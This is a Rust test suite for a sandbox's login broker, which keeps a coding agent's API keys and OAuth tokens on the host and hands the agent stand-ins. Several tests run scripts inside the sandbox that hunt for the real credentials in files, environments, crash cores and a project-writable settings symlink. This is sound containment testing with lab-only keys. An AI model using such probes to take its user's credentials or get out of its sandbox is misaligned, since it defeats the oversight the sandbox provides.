            "login broker: the login lent to /api/oauth/organizations/x/api-keys",
            "org-keys",
        ),
    ] {
        v.push((name, !refused(&r, k, "403")));
    }
    v.push((
        "login broker: bytes that are no HTTP",
        !refused(&r, "garbage", "400"),
    ));
    v.extend(helper_cwd::attempts());
    let d = dumps::attempt(false);
    v.push((
        "login broker: the key in a core of the crashed broker (project, /tmp, home)",
        d.found_inside || d.core_in_project,
    ));
    v.push((
        "login broker: see or signal the broker from inside",
        d.broker_reached_inside,
    ));
    let ws = World::new(BIN);
    let (ps, ms) = setup_settings_key(&ws, &json!([]));
    for (name, mode) in [
        (
            "login broker: the API key of the settings' env block anywhere inside, none mode",
            "none",
        ),
        (
            "login broker: the API key of the settings' env block anywhere inside, open mode",
            "open",
        ),
    ] {
        let script = search_script(SETTINGS_KEY);
        let o = search(&ws, &ps, &ms, run, &broker_args(mode), &script);
        v.push((name, found(&o)));
    }
    v
}

/// An API-key user's key (the launcher's `ANTHROPIC_API_KEY`).
const REAL_KEY: &str = "sk-ant-api03-lab-real-api-key-W4V8";

/// A world with no OAuth login (an API-key user), a trusted project, and the mock.
fn setup_api_key(w: &World, script: &Value) -> (PathBuf, MockApi) {
    let p = w.dir("proj");
    let mock = MockApi::start_oauth_live(script, REAL_REFRESH, REAL_ACCESS);
    let _ = fs::remove_file(w.home().join(".claude/.credentials.json"));
    agent::seed_claude_json(&w.home(), &[&p]);
    (p, mock)
}

fn run_with_key(w: &World, p: &Path, mock: &MockApi, args: &[&str]) -> Output {
    agent::output_within(&mut run_with_key_cmd(w, p, mock, args), LIMIT).unwrap()
}

fn run_with_key_cmd(w: &World, p: &Path, mock: &MockApi, args: &[&str]) -> std::process::Command {
    let mut cmd = w.cmd(p);
    cmd.envs(upstream_env(mock))
        .env("ANTHROPIC_API_KEY", REAL_KEY)
        .args(args);
    cmd
}

/// Every `x-api-key` the mock saw, redacted (length and last 4 characters).
fn api_keys(mock: &MockApi) -> Vec<String> {
    mock.requests()
        .iter()
        .filter_map(|r| r["headers"]["x-api-key"].as_str().map(str::to_string))
        .collect()
}

/// API-key users: claude inside gets a stand-in key; the broker sends the real one.
#[test]
fn api_key_users_talk_with_the_key_kept_outside() {
    let _g = lab::busy();
    for c in agent::claude_versions() {
        for mode in ["none", "allowlist", "open"] {
            let w = agent::world_with(BIN, &c);
            let done = "key broker says done";
            let (p, mock) = setup_api_key(&w, &tool_call_then(done));
            talk(&c, &w, &p, &mock, run_with_key, mode, done);
            let keys = api_keys(&mock);
            assert!(!keys.is_empty(), "[{} {mode}] no x-api-key seen", c.label);
            let real = format!("{} chars, ends {}", REAL_KEY.len(), tail4(REAL_KEY));
            for k in &keys {
                assert!(
                    k.contains(&real),
                    "[{} {mode}] a request without the real key: {k} (all: {keys:?})",
                    c.label
                );
            }
            for r in mock.requests() {
                assert!(
                    r["headers"]["authorization"].is_null(),
                    "[{} {mode}] a bearer from an API-key user: {r}",
                    c.label
                );
            }
        }
    }
}

/// The API key is nowhere inside with the broker (files, every process's environment,
/// command lines, open files); control: without it, it is in claude's environment.
#[test]
fn the_api_key_is_nowhere_inside() {
    let w = World::new(BIN);
    let (p, mock) = setup_api_key(&w, &json!([]));
    let script = format!(
        "{}\necho \"KEY-INSIDE $ANTHROPIC_API_KEY\"",
        search_script(REAL_KEY)
    );
    for mode in ["none", "allowlist", "open"] {
        let o = search(&w, &p, &mock, run_with_key, &broker_args(mode), &script);
        let out = found_nothing(&o, &format!("{mode}: the key"));
        assert!(
            out.contains("KEY-INSIDE sk-ant-api03-claudebox-stand-in-"),
            "[{mode}] no stand-in key: {out}"
        );
    }
    // Control: without the broker the key is in the environment inside.
    let no_broker = ["--no-login-broker", "--network", "none"];
    found_it(&search(&w, &p, &mock, run_with_key, &no_broker, &script));
}

/// The broker is the default when there is a login to lend; `--no-login-broker` and
/// `login_broker = false` share the login as before; with `ANTHROPIC_BASE_URL` naming
/// another API it stays off, and asking for it then is refused.
#[test]
fn the_broker_is_the_default_and_the_opt_out_shares_the_login() {
    let w = World::new(BIN);
    let p = w.dir("proj");
    let dry = |args: &[&str], env: &[(&str, &str)]| {
        let o = w
            .cmd(&p)
            .envs(env.iter().copied())
            .args(args)
            .args(["--dry-run", "--exec", "true"])
            .output()
            .unwrap();
        (o.status.success(), lab::stdout(&o), lab::stderr(&o))
    };
    // Nothing to lend: no broker, nothing refused.
    let (ok, out, err) = dry(&[], &[]);
    assert!(ok && !out.contains("login broker"), "{out}{err}");
    // An API key to lend: the broker.
    let (ok, out, err) = dry(&[], &[("ANTHROPIC_API_KEY", REAL_KEY)]);
    assert!(
        ok && out.contains("# login broker: in the proxy process"),
        "{out}{err}"
    );
    assert!(out.contains("stand-in x-api-key"), "{out}");
    assert!(!out.contains(REAL_KEY), "the key in the plan: {out}");
    fs::write(
        w.home().join(".claude/.credentials.json"),
        real_login().to_string(),
    )
    .unwrap();
    let (ok, out, err) = dry(&[], &[]);
    assert!(ok, "{err}");
    assert!(
        out.contains("# login broker: in the proxy process"),
        "{out}"
    );
    assert!(!out.contains("# credentials sync"), "{out}");
    // The opt-out, on the command line and in the config file.
    let (ok, out, err) = dry(&["--no-login-broker"], &[]);
    assert!(ok && out.contains("# credentials sync"), "{out}{err}");
    assert!(!out.contains("login broker"), "{out}");
    let cfg = w.home().join(".config/claudebox");
    fs::create_dir_all(&cfg).unwrap();
    fs::write(cfg.join("config.toml"), "login_broker = false\n").unwrap();
    let (ok, out, err) = dry(&[], &[]);
    assert!(ok && out.contains("# credentials sync"), "{out}{err}");
    // The command line wins over the file.
    let (ok, out, err) = dry(&["--login-broker"], &[]);
    assert!(ok && out.contains("# login broker:"), "{out}{err}");
    fs::remove_file(cfg.join("config.toml")).unwrap();
    // Another API: the broker stays off by default, and is refused when asked for.
    let other = [("ANTHROPIC_BASE_URL", "http://127.0.0.1:9")];
    let (ok, out, err) = dry(&[], &other);
    assert!(ok && out.contains("# credentials sync"), "{out}{err}");
    let (ok, _, err) = dry(&["--login-broker"], &other);
    assert!(
        !ok && err.contains("ANTHROPIC_BASE_URL") && err.lines().count() <= 2,
        "{err}"
    );
    // --check says so.
    let o = w.cmd(&p).arg("--check").output().unwrap();
    let out = lab::stdout(&o) + &lab::stderr(&o);
    assert!(
        out.contains("kept on the host by the login broker"),
        "{out}"
    );
}

/// An apiKeyHelper user's key: what the `apiKeyHelper` of the user's settings.json prints
/// (the command holds it, as `echo KEY` does: the settings file itself is a place it is).
const HELPER_KEY: &str = "sk-ant-api03-lab-helper-key-H3L9";

/// A world with no OAuth login and no ANTHROPIC_API_KEY but an `apiKeyHelper` in the
/// user's settings.json (`echo KEY`, counting its runs in `<work>/helper/runs`, a file
/// no sandbox sees), a trusted project, and a mock taking only that key.
fn setup_helper(w: &World, script: &Value) -> (PathBuf, MockApi, PathBuf) {
    let p = w.dir("proj");
    let mock = MockApi::start_oauth_live_key(script, REAL_REFRESH, REAL_ACCESS, HELPER_KEY);
    let _ = fs::remove_file(w.home().join(".claude/.credentials.json"));
    agent::seed_claude_json(&w.home(), &[&p]);
    let runs = w.dir("helper").join("runs");
    let settings = w.home().join(".claude/settings.json");
    let mut v: Value = fs::read_to_string(&settings)
        .ok()
        .and_then(|t| serde_json::from_str(&t).ok())
        .unwrap_or_else(|| json!({}));
    v["apiKeyHelper"] = format!("echo run >> '{}'; echo {HELPER_KEY}", runs.display()).into();
    fs::write(&settings, v.to_string()).unwrap();
    (p, mock, runs)
}

fn runs_of(runs: &Path) -> usize {
    fs::read_to_string(runs).unwrap_or_default().lines().count()
}

/// apiKeyHelper users: the broker runs the user's helper on the host and sends its key;
/// claude's helper inside prints a stand-in (claude sends a helper's key both as
/// x-api-key and as a bearer: both are swapped).
#[test]
fn api_key_helper_users_talk_with_the_key_kept_outside() {
    let _g = lab::busy();
    for c in agent::claude_versions() {
        for mode in ["none", "allowlist", "open"] {
            let w = agent::world_with(BIN, &c);
            let script = json!([
                {"bash": {"command": "echo tool-ran > marker", "description": "mark"}},
                "helper broker says done"
            ]);
            let (p, mock, runs) = setup_helper(&w, &script);
            let o = run(
                &w,
                &p,
                &mock,
                &[
                    "--login-broker",
                    "--network",
                    mode,
                    "-p",
                    "hello",
                    "--allowedTools",
                    "Bash",
                ],
            );
            let out = agent::ok_run(&c, &o, &mock);
            assert!(
                out.contains("helper broker says done"),
                "[{} {mode}] no final answer: {out}\n{}",
                c.label,
                lab::stderr(&o)
            );
            assert_eq!(
                fs::read_to_string(p.join("marker")).unwrap_or_default(),
                "tool-ran\n",
                "[{} {mode}] the Bash tool ran",
                c.label
            );
            let real = format!("{} chars, ends {}", HELPER_KEY.len(), tail4(HELPER_KEY));
            let bearer = format!(
                "{} chars, ends {}",
                HELPER_KEY.len() + "Bearer ".len(),
                tail4(HELPER_KEY)
            );
            let keys = api_keys(&mock);
            let seen = bearers(&mock);
            assert!(
                !keys.is_empty() && !seen.is_empty(),
                "[{} {mode}] keys {keys:?} bearers {seen:?}",
                c.label
            );
            for k in &keys {
                assert!(
                    k.contains(&real),
                    "[{} {mode}] a request without the helper's key: {k} (all: {keys:?})",
                    c.label
                );
            }
            for b in &seen {
                assert!(
                    b.contains(&bearer),
                    "[{} {mode}] a bearer that is not the helper's key: {b} (all: {seen:?})",
                    c.label
                );
            }
            // The helper ran on the host (where its count is), once for this short run.
            assert_eq!(runs_of(&runs), 1, "[{} {mode}]", c.label);
        }
    }
}

/// The helper's key is nowhere inside with the broker (the settings.json claude reads
/// there has a helper printing the stand-in); control: without it, the key is inside
/// (in the user's settings.json, as the helper's command holds it).
#[test]
fn the_api_key_helpers_key_is_nowhere_inside() {
    let w = World::new(BIN);
    let (p, mock, runs) = setup_helper(&w, &json!([]));
    let script = format!(
        "{}\necho \"HELPER-SAYS $(cat \"$CLAUDE_SECURESTORAGE_CONFIG_DIR/claudebox-api-key-helper\")\"\n\
         grep -q claudebox-api-key-helper \"$HOME/.claude/settings.json\" && echo HELPER-SWAPPED",
        search_script(HELPER_KEY)
    );
    for mode in ["none", "allowlist", "open"] {
        let o = run(
            &w,
            &p,
            &mock,
            &[
                "--login-broker",
                "--network",
                mode,
                "--exec",
                "sh",
                "-c",
                &script,
            ],
        );
        let out = lab::stdout(&o);
        assert!(
            out.contains("SEARCH-DONE"),
            "[{mode}] the search did not run: {out}\n{}",
            lab::stderr(&o)
        );
        assert!(
            !out.contains("FOUND"),
            "[{mode}] the key is readable inside:\n{out}"
        );
        assert!(
            out.contains("HELPER-SAYS sk-ant-api03-claudebox-stand-in-helper-")
                && out.contains("HELPER-SWAPPED"),
            "[{mode}] no stand-in helper: {out}"
        );
    }
    assert_eq!(
        runs_of(&runs),
        3,
        "the helper ran on the host once a launch"
    );
    // Control: without the broker the key is inside.
    let o = run(
        &w,
        &p,
        &mock,
        &[
            "--no-login-broker",
            "--network",
            "none",
            "--exec",
            "sh",
            "-c",
            &script,
        ],
    );
    let out = lab::stdout(&o);
    assert!(
        out.contains("SEARCH-DONE") && out.contains("FOUND file"),
        "control: the search finds nothing without the broker:\n{out}\n{}",
        lab::stderr(&o)
    );
    assert_eq!(runs_of(&runs), 3, "control: no helper ran on the host");
}

/// claudebox's lines on stderr but the machine's warnings (limits).
fn own_lines(err: &str) -> usize {
    err.lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with("claudebox: limits:"))
        .count()
}

/// A helper that fails on the host fails the launch in one line naming it, and nothing
/// runs inside (fail closed); a settings.json in the project (a symlink into it) is not
/// run on the host, in one line.
#[test]
fn a_failing_or_project_written_api_key_helper_fails_the_launch() {
    let w = World::new(BIN);
    let (p, mock, _) = setup_helper(&w, &json!([]));
    let settings = w.home().join(".claude/settings.json");
    fs::write(
        &settings,
        json!({"apiKeyHelper": "echo 'vault is locked' >&2; exit 3"}).to_string(),
    )
    .unwrap();
    let o = run(
        &w,
        &p,
        &mock,
        &["--network", "none", "--exec", "sh", "-c", "echo RAN-INSIDE"],
    );
    let err = lab::stderr(&o);
    assert!(!o.status.success(), "{err}");
    assert!(!lab::stdout(&o).contains("RAN-INSIDE"));
    assert!(
        err.contains("apiKeyHelper") && err.contains("vault is locked"),
        "{err}"
    );
    assert_eq!(own_lines(&err), 1, "{err}");
    // Control: the opt-out runs the helper inside, as before.
    let o = run(
        &w,
        &p,
        &mock,
        &[
            "--no-login-broker",
            "--network",
            "none",
            "--exec",
            "sh",
            "-c",
            "echo RAN-INSIDE",
        ],
    );
    assert!(
        lab::stdout(&o).contains("RAN-INSIDE"),
        "{}",
        lab::stderr(&o)
    );

    // The user's settings.json is a symlink into the project: the agent could write the
    // command the broker would run on the host.
    let inproj = p.join("dotfiles-settings.json");
    fs::write(&inproj, json!({"apiKeyHelper": "echo k"}).to_string()).unwrap();
    fs::remove_file(&settings).unwrap();
    std::os::unix::fs::symlink(&inproj, &settings).unwrap();
    let o = run(&w, &p, &mock, &["--network", "none", "--exec", "true"]);
    let err = lab::stderr(&o);
    assert!(
        !o.status.success() && err.contains("lies in the project") && own_lines(&err) == 1,
        "{err}"
    );
}

/// The broker keeps the helper's key as long as claude would
/// (`CLAUDE_CODE_API_KEY_HELPER_TTL_MS`): past it, the next request runs the helper again
/// on the host. Control: the conversation test above, with the default (5 minutes), runs
/// it once.
#[test]
fn the_broker_runs_the_helper_again_once_its_key_is_older_than_the_ttl() {
    let _g = lab::heavy();
    let c = agent::claude_versions().pop().unwrap();
    let w = agent::world_with(BIN, &c);
    let script = json!([
        {"bash": {"command": "sleep 2", "description": "wait"}},
        {"bash": {"command": "sleep 2", "description": "wait"}},
        "ttl done"
    ]);
    let (p, mock, runs) = setup_helper(&w, &script);
    let mut cmd = w.cmd(&p);
    cmd.envs(upstream_env(&mock))
        .env("CLAUDE_CODE_API_KEY_HELPER_TTL_MS", "1000")
        .args([
            "--login-broker",
            "--network",
            "none",
            "-p",
            "hello",
            "--allowedTools",
            "Bash",
        ]);
    let o = agent::output_within(&mut cmd, LIMIT).unwrap();
    let out = agent::ok_run(&c, &o, &mock);
    assert!(out.contains("ttl done"), "{out}");
    let n = runs_of(&runs);
    let asked = mock.conversation(0).len();
    assert!(
        n >= 3 && n <= mock.requests().len() + 1,
        "[{}] the helper ran {n} times for {asked} turns",
        c.label
    );
}

/// Every request the mock refused for its credentials (401).
fn unauthorized(mock: &MockApi) -> usize {
    mock.requests()
        .iter()
        .filter(|r| r["kind"] == "unauthorized")
        .count()
}

/// Upstream answers 401 to a token the host's file still calls valid (revoked early):
/// the broker refreshes the host's login once (under claude's lock) and sends the request
/// again once with the new token; the conversation goes on. With a dead refresh token it
/// tries that once, passes the 401 on, and never spends the dead token again.
#[test]
fn an_upstream_401_is_retried_once_with_a_refreshed_login() {
    let _g = lab::busy();
    for c in agent::claude_versions() {
        let w = agent::world_with(BIN, &c);
        let script = json!([
            {"bash": {"command": "echo tool-ran > marker", "description": "mark"}},
            "retried and done"
        ]);
        let (p, mock) = setup(&w, &script);
        mock.revoke(REAL_ACCESS);
        let o = run(
            &w,
            &p,
            &mock,
            &[
                "--login-broker",
                "--network",
                "none",
                "-p",
                "hello",
                "--allowedTools",
                "Bash",
            ],
        );
        let out = agent::ok_run(&c, &o, &mock);
        assert!(
            out.contains("retried and done"),
            "[{}] {out}\n{}",
            c.label,
            lab::stderr(&o)
        );
        assert_eq!(
            mock.refreshes(),
            [(
                tail4(REAL_REFRESH).trim_matches('\'').to_string(),
                Some("0001".to_string())
            )],
            "[{}] one refresh",
            c.label
        );
        assert_eq!(unauthorized(&mock), 1, "[{}] one 401, retried", c.label);
        assert_eq!(
            host_file(&w)["claudeAiOauth"]["accessToken"],
            "sk-ant-oat01-mock-a0001",
            "[{}] the new login is the host's",
            c.label
        );

        // The refresh token is dead too (the mock never issued it): one refresh tried,
        // the 401 reaches claude, and the dead token is not spent again.
        let w = agent::world_with(BIN, &c);
        let (p, mock) = setup(&w, &json!([]));
        mock.revoke(REAL_ACCESS);
        let mut dead = real_login();
        dead["claudeAiOauth"]["refreshToken"] = "sk-ant-ort01-lab-dead-refresh-D000".into();
        fs::write(w.home().join(".claude/.credentials.json"), dead.to_string()).unwrap();
        let o = run(
            &w,
            &p,
            &mock,
            &["--login-broker", "--network", "none", "-p", "hello"],
        );
        assert!(!o.status.success(), "[{}] {}", c.label, lab::stdout(&o));
        let spent = mock.refreshes();
        assert_eq!(spent.len(), 1, "[{}] {spent:?}", c.label);
        assert_eq!(spent[0], ("D000".to_string(), None), "[{}]", c.label);
        assert!(unauthorized(&mock) >= 1, "[{}]", c.label);
    }
}

/// A helper's key refused upstream (401): the broker runs the helper again at once and
/// sends the request again once with the new key (the helper here prints an old key the
/// first time, the live one after).
#[test]
fn an_upstream_401_runs_the_helper_again_and_retries_once() {
    let _g = lab::busy();
    let c = agent::claude_versions().pop().unwrap();
    let w = agent::world_with(BIN, &c);
    let (p, mock, runs) = setup_helper(&w, &json!(["helper retried"]));
    let settings = w.home().join(".claude/settings.json");
    let helper = format!(
        "echo run >> '{r}'; if [ \"$(wc -l < '{r}')\" -le 1 ]; then echo sk-ant-api03-lab-old-key-0LD0; else echo {HELPER_KEY}; fi",
        r = runs.display()
    );
    fs::write(&settings, json!({ "apiKeyHelper": helper }).to_string()).unwrap();
    let o = run(
        &w,
        &p,
        &mock,
        &["--login-broker", "--network", "none", "-p", "hello"],
    );
    let out = agent::ok_run(&c, &o, &mock);
    assert!(out.contains("helper retried"), "{out}\n{}", lab::stderr(&o));
    assert_eq!(unauthorized(&mock), 1, "one 401, retried");
    assert_eq!(runs_of(&runs), 2, "the helper ran again once");
}

/// The user's own HTTP proxy (`tests/lab/connect_proxy.py`): counts each CONNECT and
/// sends it on to the mock. Killed on drop.
struct UserProxy {
    child: std::process::Child,
    dir: tempfile::TempDir,
    port: u16,
}

impl UserProxy {
    fn start(mock: &MockApi, auth: Option<&str>) -> UserProxy {
        use std::os::unix::process::CommandExt;
        let dir = tempfile::tempdir().unwrap();
        let port_file = dir.path().join("port");
        let mut cmd = std::process::Command::new("python3");
        cmd.arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/lab/connect_proxy.py"
        ))
        .arg("--port-file")
        .arg(&port_file)
        .arg("--log")
        .arg(dir.path().join("tunnels"))
        .arg("--next")
        .arg(format!("127.0.0.1:{}", mock.port()))
        .args(auth.map(|a| ["--auth", a]).into_iter().flatten())
        .stdin(std::process::Stdio::null());
        // SAFETY: only the async-signal-safe prctl between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                nix::sys::prctl::set_pdeathsig(nix::sys::signal::Signal::SIGKILL)
                    .map_err(std::io::Error::from)
            });
        }
        let child = cmd.spawn().unwrap();
        let end = std::time::Instant::now() + Duration::from_secs(20);
        let port = loop {
            if let Some(p) = fs::read_to_string(&port_file)
                .ok()
                .and_then(|t| t.trim().parse().ok())
            {
                break p;
            }
            assert!(
                std::time::Instant::now() < end,
                "the user's proxy did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        };
        UserProxy { child, dir, port }
    }

    /// Each tunnel asked for: (target, the Proxy-Authorization sent or "-").
    fn tunnels(&self) -> Vec<String> {
        fs::read_to_string(self.dir.path().join("tunnels"))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }
}

impl Drop for UserProxy {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A user behind an HTTP proxy of their own (`HTTPS_PROXY` on the host, with a password):
/// the broker's upstream goes through it (one CONNECT per request it lends, with the
/// proxy's credentials), in open mode and in none mode. Control: with `NO_PROXY` naming
/// api.anthropic.com the broker goes direct, the proxy sees nothing (and, offline, claude
/// gets no answer).
#[test]
fn the_broker_goes_through_the_users_own_proxy() {
    let _g = lab::busy();
    let c = agent::claude_versions().pop().unwrap();
    for mode in ["open", "none"] {
        let w = agent::world_with(BIN, &c);
        let (p, mock) = setup(&w, &json!(["through your proxy"]));
        if mode == "none" {
            // Expired: the refresh goes through the proxy too, to its own host.
            fs::write(
                w.home().join(".claude/.credentials.json"),
                expired(REAL_ACCESS, REAL_REFRESH).to_string(),
            )
            .unwrap();
        }
        // base64("lab:s@cret")
        let proxy = UserProxy::start(&mock, Some("bGFiOnNAY3JldA=="));
        let mut cmd = w.cmd(&p);
        cmd.envs(upstream_env(&mock))
            .env_remove("CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY")
            .env(
                "HTTPS_PROXY",
                format!("http://lab:s%40cret@127.0.0.1:{}", proxy.port),
            )
            .args(["--login-broker", "--network", mode, "-p", "hello"]);
        let o = agent::output_within(&mut cmd, LIMIT).unwrap();
        let out = agent::ok_run(&c, &o, &mock);
        assert!(out.contains("through your proxy"), "[{mode}] {out}");
        let tunnels = proxy.tunnels();
        let conv = mock.conversation(0).len();
        let api = "api.anthropic.com:443 Basic bGFiOnNAY3JldA==";
        let token = "platform.claude.com:443 Basic bGFiOnNAY3JldA==";
        let (to_api, to_token) = (
            tunnels.iter().filter(|t| *t == api).count(),
            tunnels.iter().filter(|t| *t == token).count(),
        );
        let refreshed = usize::from(mode == "none");
        assert!(
            to_api >= conv && to_token == refreshed && to_api + to_token == tunnels.len(),
            "[{mode}] {tunnels:?}"
        );
        assert_eq!(mock.refreshes().len(), refreshed, "[{mode}]");
        let live = if mode == "none" {
            "'0001'".to_string()
        } else {
            tail4(REAL_ACCESS)
        };
        for b in bearers(&mock) {
            assert!(b.contains(&live), "[{mode}] {b}");
        }
    }
    // Open mode: another host the broker's proxy lets through goes through the user's
    // proxy too (the mock then refuses it: nothing leaves the machine).
    let w = World::new(BIN);
    let (p, mock) = setup(&w, &json!([]));
    let proxy = UserProxy::start(&mock, None);
    let mut cmd = w.cmd(&p);
    cmd.envs(upstream_env(&mock))
        .env_remove("CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY")
        .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", proxy.port))
        .args([
            "--login-broker",
            "--network",
            "open",
            "--exec",
            "sh",
            "-c",
            "curl -sS -m 20 -o /dev/null https://elsewhere.example:8443/ 2>&1; echo \"PROXY $HTTPS_PROXY\"",
        ]);
    let o = agent::output_within(&mut cmd, LIMIT).unwrap();
    let out = lab::stdout(&o);
    assert!(
        out.contains("PROXY http://claudebox:")
            && out.contains("@127.0.0.1:")
            && !out.contains(&format!("@127.0.0.1:{}\n", proxy.port)),
        "inside, HTTPS_PROXY is the broker's: {out}"
    );
    assert_eq!(
        proxy.tunnels(),
        ["elsewhere.example:8443 -"],
        "open mode: {out}\n{}",
        lab::stderr(&o)
    );

    // Control: NO_PROXY sends the broker direct (nothing reachable offline).
    let w = agent::world_with(BIN, &c);
    let (p, mock) = setup(&w, &json!(["through your proxy"]));
    let proxy = UserProxy::start(&mock, None);
    let mut cmd = w.cmd(&p);
    cmd.envs(upstream_env(&mock))
        .env_remove("CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY")
        .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", proxy.port))
        .env("NO_PROXY", ".anthropic.com")
        .env("CLAUDE_CODE_MAX_RETRIES", "0")
        .args(["--login-broker", "--network", "none", "-p", "hello"]);
    // Claude retries a 502 for a while; no answer in time is no answer either.
    if let Ok(o) = agent::output_within(&mut cmd, LIMIT) {
        assert!(
            !lab::stdout(&o).contains("through your proxy"),
            "control: {}",
            lab::stdout(&o)
        );
    }
    assert!(proxy.tunnels().is_empty(), "control: {:?}", proxy.tunnels());
    assert!(
        mock.conversation(0).is_empty(),
        "control: the mock was reached"
    );
}

/// Python inside: `n` requests through the broker, each on a new tunnel as claude's are (a
/// POST with a body, then a GET), each timed from `connect` to the end of the answer;
/// prints `MIN <ms>` and `ALL <ms>...`.
const LATENCY: &str = r#"
import json, os, socket, ssl, sys, time
login = json.load(open(os.path.join(os.environ["CLAUDE_SECURESTORAGE_CONFIG_DIR"], ".credentials.json")))
token = login["claudeAiOauth"]["accessToken"].encode()
port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
import base64, urllib.parse
u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
PA = b"proxy-authorization: Basic " + base64.b64encode(("%s:%s" % (u.username, u.password)).encode()) + b"\r\n" if u.username else b""
ctx = ssl.create_default_context(cafile=os.environ["NODE_EXTRA_CA_CERTS"])
def one(req):
    t = time.perf_counter()
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    s.sendall(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nhost: api.anthropic.com:443\r\n" + PA + b"\r\n")
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    tls = ctx.wrap_socket(s, server_hostname="api.anthropic.com")
    tls.sendall(req)
    data = b""
    while True:
        try:
            b = tls.recv(65536)
        except (ssl.SSLError, OSError):
            break
        if not b:
            break
        data += b
    assert data.split(b"\r\n")[0].endswith(b"200 OK"), data[:200]
    return (time.perf_counter() - t) * 1000
body = b'{"model": "claude-mock-1", "messages": [{"role": "user", "content": "hi"}]}'
post = (b"POST /v1/messages/count_tokens HTTP/1.1\r\nhost: api.anthropic.com\r\nauthorization: Bearer " + token
        + b"\r\ncontent-type: application/json\r\ncontent-length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
get = b"GET /api/oauth/profile HTTP/1.1\r\nhost: api.anthropic.com\r\nauthorization: Bearer " + token + b"\r\n\r\n"
times = [one(post if i % 2 == 0 else get) for i in range(int(sys.argv[1]))]
print("MIN %.2f" % min(times))
print("ALL " + " ".join("%.1f" % t for t in times))
"#;

/// The fastest of 12 requests through the broker (open mode), ms.
fn broker_request_ms(w: &World, p: &Path, mock: &MockApi, nagle: bool) -> f64 {
    let mut cmd = w.cmd(p);
    cmd.envs(upstream_env(mock))
        .args(["--exec", "python3", "-c", LATENCY, "12"]);
    if nagle {
        cmd.env("CLAUDEBOX_TEST_BROKER_NAGLE", "1");
    }
    let o = agent::output_within(&mut cmd, LIMIT).unwrap_or_else(|e| panic!("{e}"));
    let out = lab::stdout(&o);
    assert!(o.status.success(), "{out}\n{}", lab::stderr(&o));
    out.lines()
        .find_map(|l| l.strip_prefix("MIN "))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no MIN line: {out}"))
}

/// A request through the broker waits for no delayed ACK: its sockets are `TCP_NODELAY`
/// (without it each request took 40 ms more, the kernel's delayed-ACK time: the second
/// small TLS write of a request waited for the peer's ACK of the first). The fastest of
/// 12 is taken, so a loaded machine does not fail it. Control: with Nagle kept
/// (`CLAUDEBOX_TEST_BROKER_NAGLE`) the fastest takes 40 ms or more.
#[test]
fn a_request_through_the_broker_waits_for_no_delayed_ack() {
    let w = World::new(BIN);
    let (p, mock) = setup(&w, &json!([]));
    let fast = broker_request_ms(&w, &p, &mock, false);
    let slow = broker_request_ms(&w, &p, &mock, true);
    eprintln!("broker request, fastest of 12: {fast:.2} ms with TCP_NODELAY, {slow:.2} ms without");
    assert!(
        slow >= 38.0,
        "control: without TCP_NODELAY a request waits for a delayed ACK, yet the fastest took {slow:.2} ms"
    );
    assert!(
        fast < 30.0,
        "a request through the broker took {fast:.2} ms at the fastest (a delayed-ACK wait?)"
    );
}

/// An API key set in the `env` block of the user's settings.json (claude applies it over
/// its environment).
const SETTINGS_KEY: &str = "sk-ant-api03-lab-settings-key-S7E2";

/// A world with no OAuth login and no ANTHROPIC_API_KEY in the environment, the key in
/// the `env` block of the user's settings.json, a trusted project, and a mock taking only
/// that key.
fn setup_settings_key(w: &World, script: &Value) -> (PathBuf, MockApi) {
    let p = w.dir("proj");
    let mock = MockApi::start_oauth_live_key(script, REAL_REFRESH, REAL_ACCESS, SETTINGS_KEY);
    let _ = fs::remove_file(w.home().join(".claude/.credentials.json"));
    agent::seed_claude_json(&w.home(), &[&p]);
    let settings = w.home().join(".claude/settings.json");
    let mut v: Value = fs::read_to_string(&settings)
        .ok()
        .and_then(|t| serde_json::from_str(&t).ok())
        .unwrap_or_else(|| json!({}));
    v["env"] = json!({ "ANTHROPIC_API_KEY": SETTINGS_KEY, "KEPT": "yes" });
    fs::write(&settings, v.to_string()).unwrap();
    (p, mock)
}

/// A key in the `env` block of the user's settings.json is lent like ANTHROPIC_API_KEY:
/// claude talks with a tool call and every request reaches the API with the real key,
/// while the key is nowhere inside (the settings.json claude reads there has it removed,
/// the rest of its `env` kept); control: without the broker it is in the settings inside.
#[test]
fn a_key_in_the_settings_env_block_is_kept_outside() {
    let _g = lab::busy();
    for c in agent::claude_versions() {
        let w = agent::world_with(BIN, &c);
        let done = "settings key broker says done";
        let (p, mock) = setup_settings_key(&w, &tool_call_then(done));
        talk(&c, &w, &p, &mock, run, "none", done);
        let keys = api_keys(&mock);
        assert!(!keys.is_empty(), "[{}] no x-api-key seen", c.label);
        let real = format!("{} chars, ends {}", SETTINGS_KEY.len(), tail4(SETTINGS_KEY));
        for k in &keys {
            assert!(k.contains(&real), "[{}] {k} (all: {keys:?})", c.label);
        }
    }
    let w = World::new(BIN);
    let (p, mock) = setup_settings_key(&w, &json!([]));
    let script = format!(
        "{}\necho \"KEY-INSIDE $ANTHROPIC_API_KEY\"\n\
         grep -q '\"KEPT\":\"yes\"' \"$HOME/.claude/settings.json\" && echo ENV-KEPT",
        search_script(SETTINGS_KEY)
    );
    for mode in ["none", "open"] {
        let o = search(&w, &p, &mock, run, &broker_args(mode), &script);
        let out = found_nothing(&o, &format!("{mode}: the settings' key"));
        assert!(
            out.contains("KEY-INSIDE sk-ant-api03-claudebox-stand-in-"),
            "[{mode}] no stand-in key: {out}"
        );
        assert!(out.contains("ENV-KEPT"), "[{mode}] {out}");
    }
    // Control: without the broker the key is in the settings.json inside.
    let no_broker = ["--no-login-broker", "--network", "none"];
    found_it(&search(&w, &p, &mock, run, &no_broker, &script));
}

